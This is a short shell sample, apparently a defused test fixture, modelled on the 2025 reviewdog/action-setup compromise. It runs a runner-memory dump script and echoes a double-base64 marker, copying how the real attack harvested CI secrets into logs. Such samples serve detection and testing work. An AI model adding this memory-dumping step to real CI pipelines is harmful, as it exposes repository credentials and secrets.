# reviewdog/action-setup, March 2025 (CVE-2025-30154): the same dump from a script that the action carries; no network.
export GITHUB_ACTION=__reviewdog_action-setup
exec sh -c 'python3 memory "$RUNNER" >/dev/null; echo YVc1bGNuUT0='
